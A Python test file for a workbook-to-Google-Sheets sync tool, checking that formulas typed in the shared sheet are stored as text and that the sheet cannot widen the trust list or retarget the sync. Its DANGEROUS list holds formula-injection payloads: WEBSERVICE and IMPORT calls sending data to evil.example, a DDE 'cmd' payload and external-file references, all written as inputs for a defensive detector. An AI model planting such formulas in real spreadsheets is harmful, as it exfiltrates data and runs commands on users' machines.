"""Nothing typed in the shared sheet runs on the user's machine; the workbook's own formulas stay its own."""

from __future__ import annotations

import html
import re
import zipfile
from pathlib import Path

import openpyxl
import pytest
import test_sheets_sync as end_to_end
from sheets_support import KEY
from test_sheets_sync import edit_workbook, sheet_row, type_in, wb_find

from icp_sheets.core.names import ACCOUNTS, SETTINGS
from icp_sheets.example import ACCOUNT_COLUMNS
from icp_sheets.sheets.client import Connection
from icp_sheets.sheets.sync import sync
from icp_sheets.sheets.trust import TARGET_SETTING, TRUST_SETTING, untrusted_parts
from icp_sheets.testing.fake_sheets import FakeSheets

pushed = end_to_end.pushed  # the end-to-end workbook (fake and conn come from conftest)

DANGEROUS = [
    '=WEBSERVICE("http://evil.example/?d="&A4)',
    '=IMPORTXML("http://evil.example","//a")',
    '=IMPORTDATA("http://evil.example/x.csv")',
    '=IMPORTRANGE("1AbC","Sheet1!A1")',
    '=IMAGE("http://evil.example/p.png")',
    '=HYPERLINK("http://evil.example","click")',
    '=FILTERXML("<a/>","//a")',
    "=cmd|' /C calc'!A0",
    "=[book.xlsx]Sheet1!A1",
    "='C:\\secret\\[book.xlsx]Sheet1'!A1",
    '=INDIRECT("A1")',
    '=SUM(1,WEBSERVICE("http://evil.example"))',
]
SAFE = ["=ROUND(40.5*2,0)", '=IF(1>0,"yes","no")', "=SUM(B2:B3)", '=UPPER("a")&TEXT(TODAY(),"yyyy")']


@pytest.mark.parametrize("formula", DANGEROUS)
def test_each_dangerous_formula_is_told_apart(formula: str) -> None:
    assert untrusted_parts(formula)


@pytest.mark.parametrize("formula", [*SAFE, '="WEBSERVICE(" & "|[x]"', "='Q1 plan'!A1+Sheet2!B2"])
def test_safe_formulas_and_strings_that_mention_danger_are_safe(formula: str) -> None:
    assert untrusted_parts(formula) == []


def test_settings_widen_the_list_deliberately() -> None:
    assert untrusted_parts('=HYPERLINK("https://crm.example")', frozenset({"HYPERLINK"})) == []


def formulas_in(path: Path, tab: str) -> list[str]:
    """Every <f> element of the tab's XML, as stored."""
    with zipfile.ZipFile(path) as z:
        book = z.read("xl/workbook.xml").decode()
        rels = z.read("xl/_rels/workbook.xml.rels").decode()
        rid = re.search(rf'<sheet [^>]*name="{re.escape(tab)}"[^>]*r:id="([^"]+)"', book)
        assert rid
        target = re.search(rf'Id="{rid.group(1)}"[^>]*Target="([^"]+)"', rels) or re.search(
            rf'Target="([^"]+)"[^>]*Id="{rid.group(1)}"', rels
        )
        assert target
        xml = z.read("xl/" + target.group(1).removeprefix("/xl/")).decode()
    return [html.unescape(f) for f in re.findall(r"<f[^>]*>(.*?)</f>", xml)]


def test_dangerous_formulas_typed_in_the_sheet_reach_the_workbook_as_text_and_are_listed(
    pushed: Path, fake: FakeSheets, conn: Connection
) -> None:
    companies = [r[0] for r in fake.store.grid(KEY, ACCOUNTS)[1:] if r and r[0]]
    typed = DANGEROUS + SAFE
    assert len(companies) >= len(typed)
    for company, formula in zip(companies, typed, strict=False):
        type_in(fake, ACCOUNTS, company, "Industry", formula)
    report = sync(pushed, conn)
    stored = " ".join(formulas_in(pushed, ACCOUNTS))
    for name in ("WEBSERVICE", "IMPORT", "IMAGE", "HYPERLINK", "FILTERXML", "cmd", "book.xlsx", "INDIRECT"):
        assert name not in stored
    listed = "\n".join(report.lines())
    for company, formula in zip(companies, typed, strict=False):
        cell = wb_find(pushed, ACCOUNTS, company)["Industry"]
        assert cell == formula  # as text, or as the formula it is
        if formula in DANGEROUS:
            assert formula[:40] in listed
    for formula in SAFE:
        assert formula.removeprefix("=") in formulas_in(pushed, ACCOUNTS)
    assert len(report.untrusted) == len(DANGEROUS)
    assert "Settings › Trusted sheet functions" in listed
    for company, formula in zip(companies, DANGEROUS, strict=False):  # the sheet keeps what its editor typed
        row, _ = sheet_row(fake, ACCOUNTS, company)
        cell = fake.store.spreadsheets[KEY].sheet(ACCOUNTS).cells[(row, ACCOUNT_COLUMNS.index("Industry") + 1)]
        assert cell.formula is not None or formula.startswith("=cmd") or "[" in formula


def test_a_function_trusted_in_the_workbook_settings_stays_a_formula(
    pushed: Path, fake: FakeSheets, conn: Connection
) -> None:
    set_setting(pushed, TRUST_SETTING, "hyperlink")
    sync(pushed, conn)
    type_in(fake, ACCOUNTS, "Sable & Co", "Industry", '=HYPERLINK("https://crm.example","CRM")')
    report = sync(pushed, conn)
    assert report.untrusted == []
    assert 'HYPERLINK("https://crm.example","CRM")' in formulas_in(pushed, ACCOUNTS)


def test_the_sheet_cannot_widen_the_trust_list(pushed: Path, fake: FakeSheets, conn: Connection) -> None:
    row, _ = sheet_row(fake, SETTINGS, TRUST_SETTING)
    fake.store.type_in(KEY, SETTINGS, f"B{row}", "WEBSERVICE")
    type_in(fake, ACCOUNTS, "Sable & Co", "Industry", '=WEBSERVICE("http://evil.example")')
    report = sync(pushed, conn)
    assert any(TRUST_SETTING in str(r) for r in report.refused)
    assert len(report.untrusted) == 1
    assert not wb_setting(pushed, TRUST_SETTING)
    assert blank(sheet_row(fake, SETTINGS, TRUST_SETTING)[1][1])  # and the sheet gets the workbook's back
    assert not any("WEBSERVICE" in f for f in formulas_in(pushed, ACCOUNTS))


def test_a_workbook_formula_survives_ten_syncs_with_edits_on_both_sides(
    pushed: Path, fake: FakeSheets, conn: Connection
) -> None:
    col = ACCOUNT_COLUMNS.index("Employees") + 1
    edit_formula(pushed, "Harbor & Finch", col, "=40*2")
    for i in range(10):
        edit_workbook(pushed, ACCOUNTS, "Kestrel Security", "Region", f"Region {i}")
        type_in(fake, ACCOUNTS, "Sable & Co", "Region", f"Sheet {i}")
        if i == 4:  # someone types over the formula's text in the sheet
            type_in(fake, ACCOUNTS, "Harbor & Finch", "Employees", 85)
        if i == 7:  # and someone edits the same row in the sheet
            type_in(fake, ACCOUNTS, "Harbor & Finch", "Region", "EMEA")
        report = sync(pushed, conn)
        assert report.unresolved == []
        if i == 4:
            assert any("'=40*2'" in str(r) and "85" in str(r) for r in report.refused)
        cell = openpyxl.load_workbook(pushed)[ACCOUNTS].cell(row_of(pushed, "Harbor & Finch"), col)
        assert cell.data_type == "f" and cell.value == "=40*2", f"sync {i + 1}"
        at, row = sheet_row(fake, ACCOUNTS, "Harbor & Finch")
        assert row[col - 1] == "=40*2"  # the sheet shows the formula's text
        assert fake.store.spreadsheets[KEY].sheet(ACCOUNTS).cells[(at, col)].formula is None
    assert wb_find(pushed, ACCOUNTS, "Harbor & Finch")["Region"] == "EMEA"
    assert wb_find(pushed, ACCOUNTS, "Sable & Co")["Region"] == "Sheet 9"
    assert sheet_row(fake, ACCOUNTS, "Kestrel Security")[1][ACCOUNT_COLUMNS.index("Region")] == "Region 9"
    assert all(t.empty for t in sync(pushed, conn).tabs)


def test_a_formula_the_sheet_gave_the_workbook_still_takes_the_sheets_edits(
    pushed: Path, fake: FakeSheets, conn: Connection
) -> None:
    type_in(fake, ACCOUNTS, "Harbor & Finch", "Employees", "=40+45")
    sync(pushed, conn)
    type_in(fake, ACCOUNTS, "Harbor & Finch", "Employees", "=40+46")
    sync(pushed, conn)
    assert "40+46" in formulas_in(pushed, ACCOUNTS)
    type_in(fake, ACCOUNTS, "Harbor & Finch", "Employees", 90)
    assert sync(pushed, conn).refused == []
    assert wb_find(pushed, ACCOUNTS, "Harbor & Finch")["Employees"] == 90


# ----------------------------------------------------------------------------- helpers


def blank(value: object) -> bool:
    return value in (None, "")


def row_of(path: Path, company: str) -> int:
    ws = openpyxl.load_workbook(path)[ACCOUNTS]
    return next(int(r[0].row) for r in ws.iter_rows(min_row=2) if r[0].value == company)


def edit_formula(path: Path, company: str, col: int, formula: str) -> None:
    wb = openpyxl.load_workbook(path)
    wb[ACCOUNTS].cell(row_of(path, company), col).value = formula  # a formula, as Excel keeps it
    wb.save(path)


def set_setting(path: Path, label: str, value: str) -> None:
    wb = openpyxl.load_workbook(path)
    ws = wb[SETTINGS]
    row = next(r for r in ws.iter_rows(min_row=2) if r[0].value == label)
    row[1].value = value
    wb.save(path)


def wb_setting(path: Path, label: str) -> object:
    ws = openpyxl.load_workbook(path)[SETTINGS]
    return next(r[1].value for r in ws.iter_rows(min_row=2) if r[0].value == label)


def test_the_docs_list_every_safe_function() -> None:
    from icp_sheets.sheets.trust import SAFE_FUNCTIONS

    docs = (Path(__file__).parent.parent / "docs" / "sheets.md").read_text(encoding="utf-8")
    listed = re.search(r"The safe list: (.*)\.\n", docs)
    assert listed and set(re.findall(r"`([A-Z0-9.]+)`", listed.group(1))) == SAFE_FUNCTIONS


# ----------------------------------------------------------------------------- the sheet cannot redirect the sync


def test_a_retarget_typed_in_the_sheet_changes_nothing_and_is_reported(pushed: Path, fake: FakeSheets) -> None:
    from click.testing import CliRunner

    from icp_sheets.cli import cli

    fake.store.create("Theirs", spreadsheet_id="their-sheet")
    row, _ = sheet_row(fake, SETTINGS, TARGET_SETTING)
    fake.store.type_in(KEY, SETTINGS, f"B{row}", "their-sheet")
    runner = CliRunner()
    first = runner.invoke(cli, ["sync", str(pushed), "--api-url", fake.url])
    assert first.exit_code == 0, first.output
    assert "Google Sheet, Value: the sheet has 'their-sheet', not taken" in first.output
    assert wb_setting(pushed, TARGET_SETTING) == KEY
    assert sheet_row(fake, SETTINGS, TARGET_SETTING)[1][1] == KEY  # the sheet gets it back
    edit_workbook(pushed, ACCOUNTS, "Sable & Co", "Region", "LATAM")
    again = runner.invoke(cli, ["sync", str(pushed), "--api-url", fake.url])
    assert again.exit_code == 0, again.output
    assert fake.store.grid("their-sheet", "Sheet1") == [] and not any(
        s.title == ACCOUNTS for s in fake.store.spreadsheets["their-sheet"].sheets
    )


def test_a_change_of_target_needs_sheet_and_is_said(pushed: Path, fake: FakeSheets) -> None:
    from click.testing import CliRunner

    from icp_sheets.cli import cli

    fake.store.create("Other", spreadsheet_id="other-sheet")
    set_setting(pushed, TARGET_SETTING, "other-sheet")  # edited in the workbook by hand
    runner = CliRunner()
    refused = runner.invoke(cli, ["sync", str(pushed), "--api-url", fake.url])
    assert refused.exit_code == 2
    assert f"syncs with '{KEY}'" in refused.output and "Pass --sheet other-sheet to switch" in refused.output
    assert not any(s.title == ACCOUNTS for s in fake.store.spreadsheets["other-sheet"].sheets)
    switched = runner.invoke(cli, ["sync", "push", str(pushed), "--sheet", "other-sheet", "--api-url", fake.url])
    assert switched.exit_code == 0, switched.output
    assert f"Switching icp.xlsx from the Google Sheet '{KEY}' to 'other-sheet'" in switched.output
    assert any(s.title == ACCOUNTS for s in fake.store.spreadsheets["other-sheet"].sheets)
